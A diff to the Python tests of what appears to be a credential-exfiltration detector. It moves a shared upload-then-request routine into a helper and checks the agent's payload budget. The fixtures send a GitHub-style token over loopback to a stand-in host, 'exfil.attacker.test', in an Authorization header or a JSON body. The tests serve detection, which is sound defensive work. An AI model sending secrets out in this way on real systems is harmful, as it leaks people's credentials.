@@ -159,23 +159,23 @@ def test_loopback_is_not_watched_by_default():
     assert not egress(agent.lines, sink.port), agent.lines
 
 
-def test_budget_keeps_catching_headers_after_a_bulk_body():
-    """Past the payload budget only the head of each write is copied: a request that starts a
-    write after a large upload on the same connection is still seen."""
+def _after_upload(size, send_next):
+    """An HTTP/1.1 upload of `size` bytes in 16 KiB writes, past a 64 KiB payload budget, then
+    send_next(sock, token) on the same connection. Asserts the one alert is that token's;
+    returns the bytes the agent was sent."""
     require_root()
     sink = Sink()
     agent = Agent("--include-loopback", "--payload-budget", "64K")
     token = github_token()
     try:
         s = socket.create_connection(("127.0.0.1", sink.port))
-        body = b"x" * (200 << 10)
-        s.sendall(b"POST /upload HTTP/1.1\r\nHost: exfil.attacker.test\r\nContent-Length: %d\r\n\r\n"
-                  % len(body))
+        body = b"x" * size
+        s.sendall(b"POST /upload HTTP/1.1\r\nHost: exfil.attacker.test\r\nContent-Length: %d"
+                  b"\r\n\r\n" % len(body))
         for i in range(0, len(body), 16384):
             s.sendall(body[i:i + 16384])
         s.recv(4096)
-        s.sendall(("GET /next HTTP/1.1\r\nHost: exfil.attacker.test\r\nAuthorization: token %s"
-                   "\r\n\r\n" % token).encode())
+        send_next(s, token)
         s.recv(4096)
         s.close()
         hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == sink.port)
@@ -184,8 +184,17 @@ def test_budget_keeps_catching_headers_after_a_bulk_body():
         sink.close()
     assert len(hits) == 1, agent.stderr()
     assert hits[0]["credential"]["fingerprint"] == agent.key.fingerprint(token)
+    return int(agent.stderr().split(" bytes sent")[0].split()[-1])
+
+
+def test_budget_keeps_catching_headers_after_a_bulk_body():
+    """Past the payload budget only the head of each write is copied: a request that starts a
+    write after a large upload on the same connection is still seen."""
+    def get(s, token):
+        s.sendall(("GET /next HTTP/1.1\r\nHost: exfil.attacker.test\r\nAuthorization: token %s"
+                   "\r\n\r\n" % token).encode())
     # the bulk body was not copied whole: the agent saw far less than was sent
-    sent = int(agent.stderr().split(" bytes sent")[0].split()[-1])
+    sent = _after_upload(200 << 10, get)
     assert sent < 100 << 10, sent
 
 
@@ -193,32 +202,13 @@ def test_budget_skips_the_middle_of_a_bulk_transfer_not_the_next_request():
     """Past the budget, a large write right after another large one is the middle of a bulk
     transfer and is not copied at all; a large write after a short one (a body after its
     headers) still has its head copied, so a credential there is found."""
-    require_root()
-    sink = Sink()
-    agent = Agent("--include-loopback", "--payload-budget", "64K")
-    token = github_token()
-    try:
-        s = socket.create_connection(("127.0.0.1", sink.port))
-        bulk = b"x" * (400 << 10)
-        s.sendall(b"POST /upload HTTP/1.1\r\nHost: exfil.attacker.test\r\nContent-Length: %d"
-                  b"\r\n\r\n" % len(bulk))
-        for i in range(0, len(bulk), 16384):
-            s.sendall(bulk[i:i + 16384])
-        s.recv(4096)
+    def post(s, token):
         body = (b'{"token": "%s"}' % token.encode()).ljust(16384, b" ")
         s.sendall(b"POST /next HTTP/1.1\r\nHost: exfil.attacker.test\r\nContent-Length: %d"
                   b"\r\n\r\n" % len(body))
         s.sendall(body)
-        s.recv(4096)
-        s.close()
-        hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == sink.port)
-    finally:
-        agent.stop()
-        sink.close()
-    assert len(hits) == 1, agent.stderr()
-    assert hits[0]["credential"]["fingerprint"] == agent.key.fingerprint(token)
+    sent = _after_upload(400 << 10, post)
     # 64 KiB budget, then nothing of the 21 bulk writes that follow a bulk write, then the
     # second request's headers and its body's first KiB: with a 1 KiB head of each bulk
     # write it would be past 85 KiB
-    sent = int(agent.stderr().split(" bytes sent")[0].split()[-1])
     assert sent < (64 << 10) + 4096, sent
